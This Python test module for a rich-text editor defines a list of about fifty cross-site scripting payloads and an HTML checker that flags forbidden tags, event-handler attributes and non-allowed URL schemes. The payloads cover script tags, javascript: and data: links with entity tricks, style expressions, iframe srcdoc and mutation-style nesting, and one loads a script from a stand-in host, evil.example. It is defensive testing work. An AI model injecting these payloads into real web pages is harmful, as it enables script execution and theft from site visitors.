"""Hostile HTML an editor's browser could send in a rich text, and a check that HTML is safe.

Each payload would, if it ran, set ``window.__xss`` or open a dialog (alert): the browser test
(tests/e2e/test_guide_editor.py) renders them all on a published page and watches for both.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

XSS_PAYLOADS = [
    # Script elements, in every spelling.
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<svg><script>window.__xss=1</script></svg>",
    "<template><script>window.__xss=1</script></template>",
    "<!--<script>window.__xss=1</script>-->",
    "<!--[if gte IE 4]><script>window.__xss=1</script><![endif]-->",
    # Event handlers.
    '<img src="x" onerror="window.__xss=1">',
    "<img src=x onerror=window.__xss=1//",  # unclosed
    "<svg onload=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<input onfocus=window.__xss=1 autofocus>",
    "<details open ontoggle=window.__xss=1><summary>s</summary></details>",
    '<p onclick="window.__xss=1" onmouseover="alert(1)">events</p>',
    "<h2 onmouseover=alert(1)>heading with a handler</h2>",
    '<video><source onerror="window.__xss=1"></video>',
    "<div data-x=1 onpointerenter=alert(1)>div</div>",
    '<a href="https://example.ca/" onfocus="window.__xss=1" autofocus>focus</a>',
    # javascript:, data: and vbscript: links, with case and entity tricks.
    '<a href="javascript:window.__xss=1">plain</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    '<a href="&#x6A;&#x61;vascript&#58;alert(1)">hex entity</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">padded entity</a>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="java&#9;script:alert(1)">tab</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">DATA</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">svg link</text></a></svg>',
    # Style.
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="x:expression(alert(1))">expression</span>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # Frames, objects, embeds, and what a page's head may hold.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    '<math href="javascript:alert(1)">math link</math>',
    # Forms.
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">formaction</button>',
    # Nesting that a naive filter gets wrong.
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
]

# What must survive: links of the allowed kinds, and headings.
KEPT = {
    "heading": "<h2>Heading kept</h2>",
    "subheading": "<h3>Subheading kept</h3>",
    "https": '<a href="https://example.ca/guide">secure link</a>',
    "http": '<a href="http://example.ca/">plain link</a>',
    "mailto": '<a href="mailto:guide@example.ca">mail link</a>',
    "relative": '<a href="/en/guide/">relative link</a>',
}

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "meta", "base", "link", "svg", "math",
    "form", "button", "input", "frame", "frameset", "template", "noscript", "img", "video",
    "source", "details", "body", "textarea", "select",
}  # fmt: skip
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_SCRIPT = re.compile(r"<\s*script", re.IGNORECASE)
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def scheme_of(value: str) -> str | None:
    """The URL's scheme as a browser reads it (entities decoded, invisible characters gone)."""
    cleaned = _INVISIBLE.sub("", html.unescape(value)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


# On a whole page's <main>, the page's own forms and images are expected: only what runs.
FORBIDDEN_ON_PAGE = {
    "script", "style", "iframe", "object", "embed", "meta", "base", "link", "svg", "math",
    "frame", "frameset", "template", "noscript",
}  # fmt: skip


class _Elements(HTMLParser):
    def __init__(self, forbidden, comments: bool):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.forbidden = forbidden
        self.comments = comments

    def handle_starttag(self, tag, attrs):
        if tag in self.forbidden:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and value:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in ALLOWED_SCHEMES:
                    self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        if self.comments:
            self.problems.append("<!-- comment -->")


def unsafe_parts(markup: str, *, page: bool = False) -> list[str]:
    """What in `markup` could run a script or restyle the page (empty when safe).

    A stored rich text may hold none of the forbidden elements, nor a comment; a page's <main>
    (`page`) may hold its own forms and images, never a script or what could run one.
    """
    parser = _Elements(FORBIDDEN_ON_PAGE if page else FORBIDDEN_TAGS, comments=not page)
    parser.feed(markup)
    parser.close()
    # Whatever the parser made of it, a script tag's opening left anywhere, even as a broken
    # tag (a filter that strips "<script>" once would leave one in "<scr<script>ipt>").
    if _SCRIPT.search(markup):
        parser.problems.append("<script (text)")
    return parser.problems
